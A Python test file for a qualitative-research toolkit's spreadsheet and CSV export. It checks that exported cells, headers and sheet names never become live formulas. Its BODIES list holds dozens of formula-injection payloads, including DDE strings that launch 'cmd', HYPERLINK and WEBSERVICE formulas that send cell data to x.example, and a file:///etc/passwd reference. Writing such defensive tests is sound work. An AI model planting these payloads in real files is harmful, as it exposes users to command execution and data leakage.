from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from qualkit.model import Code, Codebook, Description, Study
from qualkit.report.export import export
from qualkit.report.export.border import Border
from qualkit.report.export.formulas import is_formula_like, marked, unmarked
from qualkit.report.export.schema import TABLES
from qualkit.report.export.tables import build
from qualkit.testing import make_codings, make_corpus, make_evidence, make_finding, make_study, make_themes

BODIES = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    '=WEBSERVICE("http://x.example")',
    '=IMPORTXML("http://x.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMAGE("http://x.example/a.png")',
    "=SUM(A1:A9)",
    "={1;2}",
    "=@SUM(A1)",
    "==1",
    "=",
    "=\t1",
    "= 1",
    "=A1&B1",
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+49 170 5550123",
    "+A1",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "-A1",
    "- a list",
    "--1",
    "@SUM(1+1)",
    "@A1",
    "@ann",
    "|cmd",
    "%0A=1",
    "%COMSPEC%",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tx",
    " =1+1",
    "  +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200d=1+1",
    "\u2060=1+1",
    "\u00ad=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "｜cmd",
    "％x",
    "−1+1",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "TRUE",
    "1e5",
    "00012",
    "3/4",
    "2025-05-03",
    "_x003D_1+1",
    '"=1+1"',
    'a";=1+1',
    "a,=1+1",
    "a\n=1+1",
)


def hostile() -> Study:
    """Each payload as a comment, a channel, a code, a label, a name of a variable and its value, and a claim."""
    numbered = [f"{one} {n}" for n, one in enumerate(BODIES)]
    rows = [
        {"text": one, "channel": numbered[n // 15], "prompt": one, "author": f"Author{n}", "comment_id": one}
        for n, one in enumerate(numbered)
    ]
    corpus = make_corpus(rows)
    values = pd.DataFrame({one: pd.Series([one] * len(rows), dtype="str") for one in numbered})
    corpus = replace(corpus, table=pd.concat([corpus.frame, values.assign(n=-1, x=-0.5)], axis=1))
    book = Codebook()
    for n, one in enumerate(numbered):
        book = book.add(Code(f"k{n}", one, definition=one))
    codings = make_codings(corpus, [(one, one, one, one) for one in numbered], book).assign(memo=numbered)
    fields = ("claim", "because", "rival", "action", "next_question", "scope", "whom", "coder")
    claims = tuple(
        make_finding(
            **dict(zip(fields, numbered[n : n + len(fields)], strict=False)),
            finding_id=f"f{n}",
            evidence=tuple(make_evidence(corpus, one) for one in numbered[n : n + len(fields)]),
        )
        for n in range(0, len(numbered), len(fields))
    )
    themes = make_themes(corpus, {one: [one] for one in numbered}, terms=["=1+1", "+a"])
    about = Description("=1+1", "+1", "@A1", {"-1": "=2"}, "=3")
    return make_study(corpus, codebook=book, codings=codings, findings=claims, themes=themes, description=about)


def test_there_are_enough_payloads() -> None:
    assert len(set(BODIES)) >= 60
    assert sum(is_formula_like(one) for one in BODIES) >= 50


@pytest.mark.parametrize("excel_safe", [True, False])
def test_no_cell_header_or_sheet_name_of_a_workbook_is_a_formula(excel_safe: bool, tmp_path: Path) -> None:
    path = export(hostile(), tmp_path / "a.xlsx", redact=False, excel_safe=excel_safe)
    book = load_workbook(str(path))
    assert book.sheetnames == ["readme", *TABLES]
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s", "n", "d", "b"}
    headers = [unescape(cell.value) for cell in book["conversations"][1]]
    assert {f"{one} {n}" for n, one in enumerate(BODIES) if one.isprintable()} <= set(headers)
    assert not book.defined_names
    numbers = [row[-2:] for row in book["conversations"].iter_rows(min_row=2, values_only=True)]
    assert set(numbers) == {(-1, -0.5)}


@pytest.mark.parametrize("what", sorted(TABLES))
def test_no_cell_and_no_header_of_a_csv_file_begins_like_a_formula(what: str, tmp_path: Path) -> None:
    path = export(hostile(), tmp_path / "a.csv", what=what, redact=False)
    content = Path(str(path)).read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert [
        one for one in cells if is_formula_like(one) and not one.startswith("'") and one not in ("-1", "-0.5")
    ] == []
    assert {"-1", "-0.5"} <= set(cells) or what != "conversations"


def test_without_excel_safe_a_csv_file_holds_the_words_as_they_are(tmp_path: Path) -> None:
    frame = build(Border(hostile(), redact=False), "codebook")
    path = export(hostile(), tmp_path / "a.csv", what="codebook", redact=False, excel_safe=False)
    assert pd.read_csv(str(path), keep_default_na=False)["name"].tolist() == frame["name"].tolist()


@pytest.mark.parametrize("sign", [*"=+-@|%\t\r\n", "＝", "＋", "－", "＠"])
def test_every_sign_is_marked(sign: str) -> None:
    assert marked(f"{sign}1") == f"'{sign}1"


@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("'=+-@ \t\r\n\u200b|%")), max_size=12))
def test_marks_come_off_again(text: str) -> None:
    assert unmarked(marked(text)) == text
    assert not is_formula_like(marked(text)) or marked(text).startswith("'")
